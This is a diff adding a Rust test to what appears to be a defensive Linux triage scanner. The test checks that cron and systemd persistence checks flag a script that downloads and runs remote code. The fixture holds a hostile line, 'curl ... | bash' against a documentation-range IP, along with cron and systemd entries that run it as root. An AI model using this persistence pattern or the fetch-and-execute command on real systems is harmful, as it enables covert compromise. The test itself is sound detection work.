@@ -762,3 +762,56 @@ fn compressed_rotations_are_read_or_named() {
         report.warnings
     );
 }
+
+/// The job line is innocent; the script it runs downloads and executes code.
+#[test]
+fn scripts_run_by_cron_and_units_are_read() {
+    let script = "#!/bin/bash\n# keeps the system fresh\nsleep 5\ncurl -fsSL http://198.51.100.44/p.sh | bash\n";
+    let dir = build(vec![
+        exe("/usr/local/bin/refresh.sh", script, 0o755),
+        file(
+            "/etc/cron.d/refresh",
+            "*/7 * * * * root /usr/local/bin/refresh.sh\n",
+        ),
+        file(
+            "/etc/systemd/system/refresh.service",
+            "[Service]\nExecStart=/usr/local/bin/refresh.sh --loop\n",
+        ),
+        exe(
+            "/usr/local/bin/benign.sh",
+            "#!/bin/sh\nfind /var/tmp -mtime +7 -delete\n",
+            0o755,
+        ),
+        file(
+            "/etc/cron.d/cleanup",
+            "0 4 * * * root /usr/local/bin/benign.sh\n",
+        ),
+    ]);
+    let src = FsSource::root(dir.path()).unwrap();
+    let opts = TriageOptions {
+        only: vec![
+            "linux.persistence.cron".into(),
+            "linux.persistence.systemd".into(),
+        ],
+        ..Default::default()
+    };
+    let report = firewarden_triage::run(&src, &opts, &|_| {});
+    for check in ["linux.persistence.cron", "linux.persistence.systemd"] {
+        let f = report
+            .findings
+            .iter()
+            .find(|f| f.check == check)
+            .unwrap_or_else(|| panic!("{check}: {:?}", report.findings));
+        assert_eq!(f.severity, Severity::Critical);
+        assert_eq!(
+            f.evidence[0].path.as_deref(),
+            Some("/usr/local/bin/refresh.sh")
+        );
+        assert_eq!(f.evidence[0].line, Some(4));
+    }
+    assert!(!report.findings.iter().any(|f| {
+        f.evidence
+            .iter()
+            .any(|e| e.path.as_deref() == Some("/usr/local/bin/benign.sh"))
+    }));
+}
